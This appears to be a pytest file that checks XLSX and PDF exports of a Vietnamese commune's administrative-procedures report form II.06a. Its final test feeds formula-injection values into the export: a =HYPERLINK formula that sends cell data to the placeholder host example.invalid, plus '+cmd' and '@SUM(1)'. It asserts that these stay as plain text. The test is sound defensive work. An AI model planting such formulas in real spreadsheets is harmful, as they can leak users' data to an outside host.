"""Form II.06a exported as .xlsx and .pdf, read back (openpyxl, pdftotext) and compared with
the report computed from the hand-built October of test_report_ii06a."""

from __future__ import annotations

import datetime as dt
import re
import subprocess

import openpyxl
import pytest
from test_report_ii06a import OCTOBER, book  # noqa: F401  (the fixture, by name)

from counter_app.printing import ii06a_pdf, ii06a_xlsx
from counter_app.reports import Report, Row, compute, parse_period
from counter_app.reports.heading import ReportHeading, ReportSettings

TITLE = "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH TẠI UBND XÃ QUẢNG PHÚ"
PERIOD = "Kỳ báo cáo: Tháng 10/2026 (Từ ngày 01/10/2026 đến ngày 31/10/2026)"
RECEIVER = "Văn phòng UBND tỉnh Quảng Trị"
OCTOBER_TOTAL = (14, 2, 8, 4, 7, 2, 3, 2, 7, 4, 3)
SIGNATURES = ("NGƯỜI LẬP BIỂU", "(Ký, ghi rõ họ tên)", "Lê Thị Hương",
              "Quảng Phú, ngày 03 tháng 11 năm 2026", "CHỦ TỊCH",
              "(Ký, đóng dấu, ghi rõ họ tên)", "Nguyễn Văn An")
HEADER = {"A5": "STT", "B5": "Lĩnh vực, công việc giải quyết theo cấp",
          "C5": "Số hồ sơ nhận giải quyết", "G5": "Số hồ sơ đã giải quyết",
          "K5": "Số hồ sơ đang giải quyết", "C6": "Tổng số", "D6": "Trong đó",
          "D7": "Trực tuyến", "E7": "Trực tiếp, dịch vụ bưu chính", "F7": "Từ kỳ trước",
          "G6": "Tổng số", "H6": "Trước hạn", "I6": "Đúng hạn", "J6": "Quá hạn",
          "K6": "Tổng số", "L6": "Trong hạn", "M6": "Quá hạn"}
MERGED = {"C5:F5", "G5:J5", "K5:M5", "A5:A7", "B5:B7", "D6:F6", "C6:C7", "G6:G7", "H6:H7",
          "I6:I7", "J6:J7", "K6:K7", "L6:L7", "M6:M7"}


@pytest.fixture
def heading(desk) -> ReportHeading:
    settings = ReportSettings(receiving_unit=RECEIVER, head_name="Nguyễn Văn An")
    return ReportHeading.make(desk.agency, settings, dt.date(2026, 11, 3),
                              maker_name="Lê Thị Hương")


def october(desk, by_procedure: bool) -> Report:
    return compute(desk.db, parse_period("2026-10"), by_procedure=by_procedure)


def lines_of(report: Report) -> list[Row]:
    """The rows as the form prints them: total, then each field and its procedures."""
    out = [report.total]
    for row in report.rows:
        out += [row, *row.procedures]
    return out


def pdftotext(path, mode: str = "-layout") -> str:
    args = ["pdftotext", mode, "-enc", "UTF-8", str(path), "-"]
    return subprocess.run(args, check=True, capture_output=True).stdout.decode("utf-8")


def numbers(values) -> str:
    """A regex for a row's numbers in order, as pdftotext -layout spaces them."""
    return r"\s+".join(str(v) for v in values)


def texts(ws) -> list[str]:
    return [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def find(ws, value: str):
    return next(c for row in ws.iter_rows() for c in row if c.value == value)


# -- XLSX ---------------------------------------------------------------------------------

@pytest.mark.usefixtures("book")
@pytest.mark.parametrize("by_procedure", [False, True])
def test_xlsx_is_the_form_with_the_reports_numbers(desk, heading, tmp_path, by_procedure):
    report = october(desk, by_procedure)
    out = tmp_path / "ii06a.xlsx"
    ii06a_xlsx.write(report, heading, out)
    ws = openpyxl.load_workbook(out).active

    assert ws["A1"].value == "Biểu số II.06a/VPCP/KSTT" and ws["A1"].font.b
    assert ws["A2"].value == "Ban hành theo Thông tư số 01/2020/TT-VPCP ngày 21/10/2020"
    assert ws["C1"].value == TITLE and ws["C1"].font.b
    assert ws["C3"].value == PERIOD
    assert ws["J1"].value == "Đơn vị báo cáo: UBND xã Quảng Phú"
    assert ws["J2"].value == f"Đơn vị nhận báo cáo: {RECEIVER}"
    assert ws["J3"].value == "Đơn vị tính: Số hồ sơ TTHC"
    assert {cell: ws[cell].value for cell in HEADER} == HEADER
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert MERGED <= merged and {"A1:B1", "C1:I2", "C3:I3", "J1:M1"} <= merged
    assert [ws.cell(8, c).value for c in range(1, 14)] == [f"({c})" for c in range(1, 14)]
    for cell in (ws["C5"], ws["E7"], ws["M6"]):
        assert cell.font.b and cell.alignment.wrap_text and cell.border.left.style == "thin"

    expected = lines_of(report)
    assert len(expected) == 1 + 4 + 5 * by_procedure  # total, 4 fields, 5 procedures
    for i, line in enumerate(expected):
        row = ii06a_xlsx.TOTAL_ROW + i
        values = [ws.cell(row, c).value for c in range(3, 14)]
        assert values == list(line.columns()), line.label
        assert all(type(v) is int for v in values)
        assert ws.cell(row, 2).value == line.label
        assert ws.cell(row, 1).value == (line.stt or None)
        assert ws.cell(row, 3).font.b == (line.procedure_code is None), line.label
    assert ws["B9"].value == "Tổng cộng"
    assert tuple(ws.cell(9, c).value for c in range(3, 14)) == OCTOBER_TOTAL
    field_rows = {ws.cell(r, 2).value: tuple(ws.cell(r, c).value for c in range(3, 14))
                  for r in range(10, 10 + len(expected) - 1) if "." not in ws.cell(r, 1).value}
    assert field_rows == {label: cells for label, (cells, *_) in OCTOBER.items()}
    if by_procedure:
        assert ws.cell(10, 1).value == "1" and ws.cell(11, 1).value == "1.1"
        assert ws.cell(11, 2).alignment.indent > 0 and not ws.cell(11, 2).font.b
    after = ii06a_xlsx.TOTAL_ROW + len(expected)  # the first row under the table

    remark = find(ws, "Ghi chú: cột (9) gồm 2 hồ sơ rút hoặc dừng giải quyết theo đề nghị của người nộp; 1 hồ sơ bị từ chối tiếp nhận (Mẫu 03) trong kỳ không được tính là hồ sơ tiếp nhận.")
    assert remark.row > after - 1 and remark.font.i and remark.font.sz < 11
    for value in SIGNATURES:
        assert find(ws, value).row > remark.row, value
    assert find(ws, "NGƯỜI LẬP BIỂU").column < find(ws, "CHỦ TỊCH").column
    assert find(ws, "NGƯỜI LẬP BIỂU").row == find(ws, "CHỦ TỊCH").row
    assert not any("None" in value for value in texts(ws))
    assert {c.font.name for row in ws.iter_rows() for c in row if c.value is not None} \
        == {"Times New Roman"}

    setup = ws.page_setup
    assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)  # 9: A4
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$5:$8" and ws.freeze_panes == "C9"
    assert ws.column_dimensions["B"].width >= 30
    assert all(8 <= ws.column_dimensions[c].width <= 14 for c in "CDEFGHIJKLM")


def test_xlsx_of_an_empty_period_is_a_valid_zero_form(desk, tmp_path):
    report = compute(desk.db, parse_period("2026-10"))
    assert report.rows == []
    heading = ReportHeading.make(desk.agency, ReportSettings(), dt.date(2026, 11, 3))
    out = tmp_path / "empty.xlsx"
    ii06a_xlsx.write(report, heading, out)
    ws = openpyxl.load_workbook(out).active
    assert ws["C1"].value == TITLE and ws["B9"].value == "Tổng cộng"
    assert [ws.cell(9, c).value for c in range(3, 14)] == [0] * 11
    assert ws["B10"].value is None
    assert ws["J2"].value.startswith("Đơn vị nhận báo cáo: ……")  # dotted, to fill by hand
    assert not any(v.startswith("Ghi chú") for v in texts(ws))  # nothing closed: no note
    assert find(ws, "NGƯỜI LẬP BIỂU").row > 10
    assert not any("None" in value for value in texts(ws))


@pytest.mark.usefixtures("book")
def test_xlsx_replaces_an_old_file_and_leaves_no_temporary_file(desk, heading, tmp_path):
    out = tmp_path / "ii06a.xlsx"
    out.write_bytes(b"old")
    ii06a_xlsx.write(october(desk, False), heading, out)
    assert openpyxl.load_workbook(out).active["B9"].value == "Tổng cộng"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".ii06a")] == []


# -- PDF ----------------------------------------------------------------------------------

@pytest.mark.usefixtures("book")
def test_pdf_by_field(desk, heading, tmp_path):
    report = october(desk, False)
    out = tmp_path / "ii06a.pdf"
    data = ii06a_pdf.render(report, heading, out)
    assert data.startswith(b"%PDF") and out.read_bytes() == data
    text = pdftotext(out)
    assert "\f" not in text.rstrip("\f")  # one page
    for phrase in ("Biểu số II.06a/VPCP/KSTT", "Ban hành theo Thông tư số",
                   "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH", "TẠI UBND XÃ QUẢNG PHÚ",
                   PERIOD, "Đơn vị báo cáo: UBND xã Quảng Phú",
                   "Đơn vị tính: Số hồ sơ TTHC", "Số hồ sơ nhận giải quyết",
                   "Số hồ sơ đã giải quyết", "Số hồ sơ đang giải quyết", "Trong đó",
                   "Ghi chú: cột (9) gồm 2 hồ sơ rút hoặc dừng giải quyết theo đề nghị của người nộp; 1 hồ sơ bị từ chối tiếp nhận (Mẫu 03) trong kỳ không được tính là hồ sơ tiếp nhận.",
                   *SIGNATURES, "Trang 1/1"):
        assert phrase in text, phrase
    raw = pdftotext(out, "-raw")  # cell by cell: a header wrapped in its cell reads whole
    for label in HEADER.values():
        assert re.sub(r"\s+", " ", label) in re.sub(r"\s+", " ", raw), label
    assert re.search(r"\(1\)\s+\(2\)\s+\(3\)" + r"".join(rf"\s+\({c}\)" for c in range(4, 14)),
                     text)
    assert re.search(r"Tổng cộng\s+" + numbers(OCTOBER_TOTAL) + r"\s*$", text, re.M)
    for i, (label, (cells, *_)) in enumerate(OCTOBER.items(), 1):
        assert re.search(rf"^\s*{i}\s+{label}\s+{numbers(cells)}\s*$", text, re.M), label
    assert text.index("Tổng cộng") < text.index("Bảo trợ xã hội") < text.index("Hộ tịch") \
        < text.index("NGƯỜI LẬP BIỂU")
    assert "None" not in text


@pytest.mark.usefixtures("book")
def test_pdf_by_procedure(desk, heading, tmp_path):
    report = october(desk, True)
    out = tmp_path / "ii06a.pdf"
    ii06a_pdf.render(report, heading, out)
    text = pdftotext(out)
    flat = re.sub(r"\s+", " ", text)
    for row in report.rows:
        for proc in row.procedures:
            assert re.search(rf"^\s*{re.escape(proc.stt)}\s", text, re.M), proc.stt
    assert "Cấp Giấy xác nhận tình trạng hôn nhân 2 0 2 0 0 0 0 0 2 1 1" in flat
    assert re.search(r"Tổng cộng\s+" + numbers(OCTOBER_TOTAL), text)
    assert "None" not in text


def long_report(procedures_per_field: int = 20) -> Report:
    """Four fields of ``procedures_per_field`` procedures each, built by hand."""
    total, rows = Row("", "Tổng cộng", ""), []
    for i, label in enumerate(("Bảo trợ xã hội", "Chứng thực", "Đất đai", "Hộ tịch"), 1):
        row = Row(str(i), label, label)
        for j in range(1, procedures_per_field + 1):
            proc = Row(f"{i}.{j}", f"Thủ tục {label.lower()} số {j} giải quyết tại cấp xã",
                       label, f"1.{i:02d}{j:03d}", 3, 1, 1, 1, 2, 1, 1, 0, 1, 1, 0)
            row.add(proc)
            row.procedures.append(proc)
        rows.append(row)
        total.add(row)
    return Report(parse_period("2026-Q4"), True, rows, total)


def test_a_long_pdf_repeats_the_header_on_every_page(heading, tmp_path):
    report = long_report()
    assert sum(len(r.procedures) for r in report.rows) == 80
    out = tmp_path / "long.pdf"
    ii06a_pdf.render(report, heading, out)
    pages = [p for p in pdftotext(out).split("\f") if p.strip()]
    assert len(pages) >= 3
    for n, page in enumerate(pages, 1):
        assert "Lĩnh vực, công việc giải quyết theo cấp" in page, n
        assert "Số hồ sơ nhận giải quyết" in page and "(13)" in page, n
        assert f"Trang {n}/{len(pages)}" in page, n
    assert "Trang 2/" in pages[1]
    assert "Kỳ báo cáo: Quý IV/2026" in pages[0] and "Kỳ báo cáo" not in pages[1]
    assert re.search(r"Tổng cộng\s+" + numbers(report.total.columns()), pages[0])
    for i in range(1, 5):
        for j in range(1, 21):
            assert sum(bool(re.search(rf"^\s*{i}\.{j}\s", p, re.M)) for p in pages) == 1
    # the signatures never stand alone: the last page also has rows of the table
    assert "NGƯỜI LẬP BIỂU" in pages[-1] and re.search(r"^\s*4\.20\s", pages[-1], re.M)


def test_pdf_of_an_empty_period_is_a_valid_zero_form(desk, tmp_path):
    report = compute(desk.db, parse_period("2026-10"))
    heading = ReportHeading.make(desk.agency, ReportSettings(), dt.date(2026, 11, 3))
    out = tmp_path / "empty.pdf"
    ii06a_pdf.render(report, heading, out)
    text = pdftotext(out)
    assert re.search(r"Tổng cộng\s+" + numbers([0] * 11) + r"\s*$", text, re.M)
    assert TITLE.split(" TẠI ")[0] in text and PERIOD in text and "Trang 1/1" in text
    assert "Đơn vị nhận báo cáo: ……" in text and "Ghi chú" not in text
    assert "NGƯỜI LẬP BIỂU" in text and "CHỦ TỊCH" in text
    assert "None" not in text


def test_the_pdf_is_returned_without_a_file(heading):
    data = ii06a_pdf.render(long_report(2), heading)
    assert data.startswith(b"%PDF") and len(data) > 1000


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    """A field or signer typed as "=HYPERLINK(…)" is written as text, never as a formula."""
    import datetime as dt

    import openpyxl

    from counter_app.printing import ii06a_xlsx
    from counter_app.reports import parse_period
    from counter_app.reports.heading import ReportHeading
    from counter_app.reports.ii06a import Report, Row

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
    row = Row("1", evil, evil, received_total=1, received_direct=1, open_total=1,
              open_within=1)
    total = Row("", "Tổng cộng", "", received_total=1, received_direct=1, open_total=1,
                open_within=1)
    report = Report(parse_period("2026-10"), False, [row], total)
    heading = ReportHeading("UBND xã Quảng Phú", "+cmd", "Quảng Phú", dt.date(2026, 11, 2),
                            maker_name="@SUM(1)", head_name=evil)
    out = tmp_path / "f.xlsx"
    ii06a_xlsx.write(report, heading, out)
    cells = [c for r in openpyxl.load_workbook(out).active.iter_rows() for c in r
             if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == evil for c in cells)
